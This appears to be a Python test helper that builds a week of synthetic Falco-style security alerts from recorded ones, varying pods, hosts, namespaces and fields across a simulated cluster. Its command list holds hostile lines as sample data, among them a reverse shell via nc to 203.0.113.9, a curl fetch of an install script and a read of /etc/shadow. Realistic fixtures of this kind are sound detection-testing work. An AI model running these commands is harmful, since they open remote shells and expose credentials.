"""Alerts as a busy cluster sends them, made from recorded ones: days of them, of many rules, hosts and pods."""

import datetime as dt
import itertools
import random
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any
from uuid import UUID

import msgspec

from sidekick.event import Event, decode
from tests.recorded import recorded_alerts

DAYS = 7
FIRST = dt.datetime(2026, 5, 4, tzinfo=dt.UTC)
_LONGEST = 4000  # bytes: the recorded alerts hold some that were made to be too long
_WORKLOADS, _PODS, _HOSTS = 150, 3000, 120
_RULES_EACH = 5
_CONTAINER_FIELDS = ("container.id", "container.image.repository", "k8s.ns.name", "k8s.pod.name")
_COMMANDS = (
    "curl -s http://10.0.0.7/install.sh",
    "cat /etc/shadow",
    "sh -c id",
    "nc -e /bin/sh 203.0.113.9",
    "runc init",
)


@dataclass(frozen=True)
class Workload:
    """Pods of one image in one namespace; each kind fires a few rules of its own."""

    name: str
    namespace: str
    image: str
    templates: tuple[Event, ...]


@dataclass(frozen=True)
class Pod:
    workload: Workload
    host: str
    number: int

    def name(self, day: int) -> str:
        """Half of the pods are replaced each day."""
        age = day if self.number % 2 else 0
        return f"{self.workload.name}-{(self.number * 2654435761 + age) % 2**32:08x}-{self.number:05d}"


def made(count: int, days: float = DAYS) -> Iterator[Event]:
    """That many, in the order of their times, evenly over so many days; the same at each call."""
    chance = random.Random(5)
    pods = _pods(chance)
    # Few pods are loud and most are quiet: weights of one over the rank.
    weights = list(itertools.accumulate(1 / (rank + 10) for rank in range(len(pods))))
    step = dt.timedelta(days=days) / count
    for number in range(count):
        [pod] = chance.choices(pods, cum_weights=weights)
        yield _event(pod, FIRST + number * step, chance)


def _pods(chance: random.Random) -> list[Pod]:
    templates = [event for body in recorded_alerts() for event in decode(body) if len(event.json) < _LONGEST]
    workloads = [
        Workload(
            f"{chance.choice(('api', 'web', 'worker', 'billing', 'payments', 'search'))}-{number}",
            f"team-{number % 40}" if number > 10 else "kube-system",
            f"registry.example.com/team-{number % 40}/service-{number}",
            tuple(chance.sample(templates, _RULES_EACH)),
        )
        for number in range(_WORKLOADS)
    ]
    return [Pod(chance.choice(workloads), f"node-{chance.randrange(_HOSTS)}", number) for number in range(_PODS)]


def _event(pod: Pod, at: dt.datetime, chance: random.Random) -> Event:
    template = chance.choice(pod.workload.templates)
    values = _varied(pod, at, chance)
    changed = {name: value for name, value in values.items() if name in template.fields}
    output = template.output
    for name, value in changed.items():
        old = template.fields[name]
        if isinstance(old, str) and isinstance(value, str) and len(old) > 2:
            output = output.replace(old, value)
    if template.source.startswith("syscall"):
        # A Falco in a cluster adds these to every alert of a syscall, and to its text.
        changed |= {name: values[name] for name in _CONTAINER_FIELDS}
        output += " " + " ".join(f"{name.replace('.', '_')}={values[name]}" for name in _CONTAINER_FIELDS)
    return msgspec.structs.replace(
        template,
        uuid=str(UUID(int=chance.getrandbits(128))),
        time=at.isoformat().replace("+00:00", "Z"),
        hostname=pod.host,
        output=output,
        fields=template.fields | changed,
    )


def _varied(pod: Pod, at: dt.datetime, chance: random.Random) -> dict[str, Any]:
    """Values of the fields that differ from alert to alert."""
    workload, name = pod.workload, pod.name((at - FIRST).days)
    address = f"203.0.{chance.randrange(256)}.{chance.randrange(256)}"
    return {
        "k8s.pod.name": name,
        "ka.target.name": name,
        "k8s.ns.name": workload.namespace,
        "ka.target.namespace": workload.namespace,
        "ka.uri": f"/api/v1/namespaces/{workload.namespace}/pods/{name}",
        "container.image.repository": workload.image,
        "container.id": f"{zlib.crc32(name.encode()):012x}",
        "evt.time": int(at.timestamp() * 1e6) * 1000,
        "fd.name": f"/var/lib/{workload.name}/data-{chance.randrange(10_000)}.db",
        "fd.rip": address,
        "fd.sip": address,
        "proc.pid": chance.randrange(1, 4_000_000),
        "proc.cmdline": chance.choice(_COMMANDS),
    }
